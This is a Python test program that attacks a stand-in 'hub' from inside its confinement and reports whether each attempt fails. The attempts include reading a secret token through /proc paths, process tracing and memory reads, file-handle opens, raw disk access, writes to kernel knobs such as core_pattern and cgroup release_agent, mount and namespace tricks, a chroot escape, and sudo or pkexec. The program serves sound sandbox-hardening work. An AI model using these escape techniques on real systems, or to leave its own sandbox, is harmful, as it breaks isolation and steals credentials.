"""A program that attacks a stand-in for the hub from inside its confinement.

    python confined_attacks.py FACTS

FACTS is JSON: paths and process ids of the stand-in (see `test_confinement`). It prints a line per
attack: `name: failed` or `name: BROKEN what was reached`. Standard library only.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
NEW_USER, NEW_MOUNTS, NEW_PIDS = 0x10000000, 0x20000, 0x20000000
BIND, RECURSIVE, REMOUNT, MOVE, DETACH = 4096, 16384, 32, 8192, 2
ATTACKS: list[Callable[[dict[str, Any]], object]] = []


def attack(function: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], object]:
    """Register an attack; it returns what it reached, or raises or returns nothing."""
    ATTACKS.append(function)
    return function


def secret_in(path: str | Path, facts: dict[str, Any]) -> str | None:
    with suppress(OSError):
        text = Path(path).read_bytes()
        if facts["secret"].encode() in text:
            return f"read {path}"
    return None


def call(name: str, *arguments: Any) -> bool:
    """Return whether a system call succeeded."""
    return bool(getattr(LIBC, name)(*arguments) >= 0)


def mount(source: str | None, target: str, kind: str | None, flags: int) -> bool:
    words = [None if each is None else each.encode() for each in (source, target, kind)]
    return call("mount", *words, ctypes.c_ulong(flags), None)


def in_child(work: Callable[[], object]) -> object:
    """Run something in a process of its own; return what it returned, as text."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        with suppress(BaseException):
            os.write(writing, str(work() or "").encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as answer:
        text = answer.read().decode()
    os.wait()
    return text


# ---- reading -----------------------------------------------------------------------------------


@attack
def inherited_descriptors(_facts: dict[str, Any]) -> object:
    return [each.name for each in Path("/proc/self/fd").iterdir() if int(each.name) > 3]


@attack
def read_the_token(facts: dict[str, Any]) -> object:
    home = facts["home"]
    ways = [f"{home}/token", f"/proc/self/root{home}/token", f"{home}/../{Path(home).name}/token"]
    ways += [f"/proc/{pid}/root{home}/token" for pid in (1, *facts["pids"])]
    ways += [f"/proc/{pid}/cwd/token" for pid in facts["pids"]]
    link = Path(facts["project"], "link")
    link.symlink_to(home)
    ways.append(f"{link}/token")
    return next((found for way in ways if (found := secret_in(way, facts))), None)


@attack
def list_the_folders(facts: dict[str, Any]) -> object:
    found = [*Path(facts["home"]).iterdir(), *Path(facts["config"]).iterdir()]
    return [str(path) for path in found if path.name != "agent.toml"]


@attack
def read_memory_and_environments(facts: dict[str, Any]) -> object:
    for pid in facts["pids"]:
        for name in ("environ", "mem", "maps", "auxv", "fd/0", "fd/3", "ns/mnt", "root", "cwd"):
            path = f"/proc/{pid}/{name}"
            with suppress(OSError):
                if name in ("root", "cwd", "ns/mnt") or name.startswith("fd/"):
                    return f"{path} -> {Path(path).readlink()}"
                with Path(path).open("rb") as file:
                    if file.read(1):
                        return path
    return None


@attack
def trace_processes(facts: dict[str, Any]) -> object:
    attach, seize = 16, 0x4206
    for pid in facts["pids"]:
        for request in (attach, seize):
            if call("ptrace", ctypes.c_long(request), pid, None, None):
                return f"traced {pid}"
        buffer = ctypes.create_string_buffer(8)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
        remote = (ctypes.c_size_t * 2)(0x400000, 8)
        pairs = (ctypes.byref(local), ctypes.c_ulong(1), ctypes.byref(remote), ctypes.c_ulong(1))
        if LIBC.process_vm_readv(pid, *pairs, ctypes.c_ulong(0)) > 0:
            return f"read memory of {pid}"
        with suppress(OSError):
            pidfd = os.pidfd_open(pid)
            for fd in range(10):
                if LIBC.syscall(438, pidfd, fd, 0) >= 0:  # pidfd_getfd
                    return f"took descriptor {fd} of {pid}"
    return None


@attack
def open_by_handle(facts: dict[str, Any]) -> object:
    kind, data = facts["handle"]

    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))

    raw = bytes.fromhex(data)
    handle = Handle(len(raw), kind, (ctypes.c_ubyte * 128)(*raw))

    def work() -> object:
        for inside in (False, True):
            if inside:
                LIBC.unshare(NEW_USER | NEW_MOUNTS)
            for folder in ("/", facts["project"], str(Path(facts["home"]).parent)):
                where = os.open(folder, os.O_RDONLY)
                for flags in (os.O_RDONLY, os.O_RDONLY | os.O_DIRECTORY, os.O_PATH):
                    fd = LIBC.open_by_handle_at(where, ctypes.byref(handle), flags)
                    if fd >= 0:
                        return f"opened {Path(f'/proc/self/fd/{fd}').readlink()}"
        return None

    return in_child(work)


@attack
def read_disks(facts: dict[str, Any]) -> object:
    for folder, _, names in os.walk("/dev"):
        for name in names:
            path = Path(folder, name)
            with suppress(OSError):
                if path.is_block_device() and not path.is_symlink():
                    with path.open("rb") as file:
                        if file.read(1):
                            return str(path)
    for major in (8, 253, 254, 259):
        path = Path(facts["project"], f"disk{major}")
        with suppress(OSError):
            os.mknod(path, 0o660 | 0o060000, os.makedev(major, 0))
            with path.open("rb") as file:
                return f"{path}: {file.read(1)!r}"
    with suppress(OSError), Path("/dev/mem").open("rb") as file:
        return file.read(1)
    return None


# ---- writing -----------------------------------------------------------------------------------


@attack
def write_the_configuration(facts: dict[str, Any]) -> object:
    for name in ("hub.toml", "agent.toml", "new.toml"):
        for folder in (facts["config"], facts["home"]):
            with suppress(OSError), Path(folder, name).open("a") as file:
                file.write("x")
                return f"wrote {folder}/{name}"
    with suppress(OSError), Path(facts["named"]).open("a") as file:
        file.write("x")
        return "wrote the named file"
    return None


@attack
def replace_the_folders(facts: dict[str, Any]) -> object:
    for path in (facts["home"], facts["config"], facts["named"]):
        for folder in (Path(path), *Path(path).parents):
            with suppress(OSError):
                folder.rename(f"{folder}.moved")
                return f"renamed {folder}"
            with suppress(OSError):
                folder.rmdir()
                return f"removed {folder}"
            with suppress(OSError):
                Path(facts["project"], "other").mkdir(exist_ok=True)
                Path(facts["project"], "other").rename(folder)
                return f"replaced {folder}"
    with suppress(OSError):
        Path(facts["named"]).unlink()
        return "removed the named file"
    return None


@attack
def exchange_the_folders(facts: dict[str, Any]) -> object:
    exchange, here = 2, -100
    Path(facts["project"], "swap").mkdir(exist_ok=True)
    swap = str(Path(facts["project"], "swap")).encode()
    for path in (facts["home"], facts["config"]):
        for folder in (path, *map(str, Path(path).parents)):
            if call("renameat2", here, folder.encode(), here, swap, exchange):
                return f"exchanged {folder}"
    return None


@attack
def change_the_kernel(_facts: dict[str, Any]) -> object:
    paths = [
        *("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger"),
        *("/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper", "/sys/power/state"),
        *("/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/yama/ptrace_scope", "/proc/mtrr"),
        *map(str, Path("/sys/fs/cgroup").glob("**/release_agent")),
        *map(str, Path("/sys/fs/cgroup").glob("*/cgroup.procs")),
        *map(str, Path("/proc/irq").glob("*/smp_affinity")),
    ]
    for path in paths:
        with suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            return f"opened {path}"
    return None


@attack
def change_the_kernel_through_another_proc(facts: dict[str, Any]) -> object:
    def work() -> object:
        LIBC.unshare(NEW_USER | NEW_MOUNTS | NEW_PIDS)

        def inside() -> object:
            if mount("none", facts["project"], "proc", 0):
                fd = os.open(f"{facts['project']}/sys/kernel/core_pattern", os.O_WRONLY)
                return f"opened {fd}"
            return None

        return in_child(inside)

    return in_child(work)


# ---- mounts and namespaces ---------------------------------------------------------------------


def uncovered(facts: dict[str, Any]) -> str | None:
    """Unmount, remount and move what hides the folder; return what was reached."""
    home = facts["home"]
    LIBC.umount2(home.encode(), DETACH)
    LIBC.umount2(home.encode(), 0)
    mount(None, home, None, REMOUNT | BIND)
    mount(home, facts["project"], None, MOVE)
    return secret_in(f"{home}/token", facts)


def cloned(parent: Path, facts: dict[str, Any]) -> str | None:
    """Look at a folder above through binds and clones of its mount; return what was reached."""
    spot, inner = facts["project"], Path(facts["home"]).relative_to(parent)
    for flags in (BIND, BIND | RECURSIVE):
        if mount(str(parent), spot, None, flags):
            LIBC.umount2(f"{spot}/{inner}".encode(), DETACH)
            if reached := secret_in(f"{spot}/{inner}/token", facts):
                return reached
            LIBC.umount2(spot.encode(), DETACH)
    for flags in (1, 1 | 0x8000):  # open_tree: a clone, and a recursive one
        fd = LIBC.syscall(428, -100, str(parent).encode(), flags)
        if fd >= 0 and (reached := secret_in(f"/proc/self/fd/{fd}/{inner}/token", facts)):
            return reached
    return None


@attack
def uncover_by_mounts(facts: dict[str, Any]) -> object:
    def work() -> object:
        if reached := uncovered(facts):
            return reached
        parents = Path(facts["home"]).parents
        return next((found for each in parents if (found := cloned(each, facts))), None)

    def work_inside() -> object:
        return work() if call("unshare", NEW_USER | NEW_MOUNTS) else None

    return in_child(work) or in_child(work_inside)


@attack
def enter_namespaces(facts: dict[str, Any]) -> object:
    for pid in (1, *facts["pids"]):
        for name in ("mnt", "user", "pid"):
            with suppress(OSError):
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
                if call("setns", fd, 0):
                    return f"entered {name} of {pid}"
        with suppress(OSError):
            if call("setns", os.pidfd_open(pid), NEW_MOUNTS):
                return f"entered {pid}"
    return None


@attack
def escape_by_chroot(facts: dict[str, Any]) -> object:
    def work() -> object:
        os.chroot(facts["project"])
        for _ in range(30):
            os.chdir("..")
        os.chroot(".")
        return secret_in(f"{facts['home']}/token", facts)

    return in_child(work)


# ---- sockets and signals -----------------------------------------------------------------------


@attack
def connect_to_the_socket(facts: dict[str, Any]) -> object:
    with socket.socket(socket.AF_UNIX) as client, suppress(OSError):
        client.connect(f"{facts['home']}/hub.sock")
        return "connected"
    return None


@attack
def signal_processes(facts: dict[str, Any]) -> object:
    if not facts["signals_kept"]:
        return None
    for pid in facts["pids"]:
        for number in (0, signal.SIGHUP):
            with suppress(OSError):
                os.kill(pid, number)
                return f"signalled {pid}"
    return None


@attack
def use_programs_that_change_the_user(facts: dict[str, Any]) -> object:
    for program in (["sudo", "-n"], ["su", "-c"], ["pkexec"], ["newuidmap"]):
        with suppress(OSError, subprocess.TimeoutExpired):
            line = [*program, f"cat {facts['home']}/token"]
            done = subprocess.run(
                line, stdin=subprocess.DEVNULL, capture_output=True, timeout=5, check=False
            )
            if facts["secret"].encode() in done.stdout:
                return " ".join(program)
    return None


def results(facts: dict[str, Any]) -> Iterator[str]:
    for each in ATTACKS:
        if each.__name__ not in facts.get("only", [each.__name__]):
            continue
        try:
            reached = each(facts)
        except OSError as error:
            reached = None
            yield f"{each.__name__}: failed ({error.strerror})"
            continue
        yield f"{each.__name__}: {f'BROKEN {reached}' if reached else 'failed'}"


if __name__ == "__main__":
    for line in results(json.loads(sys.argv[1])):
        sys.stdout.write(f"{line}\n")
        sys.stdout.flush()
    sys.stdout.write("END\n")
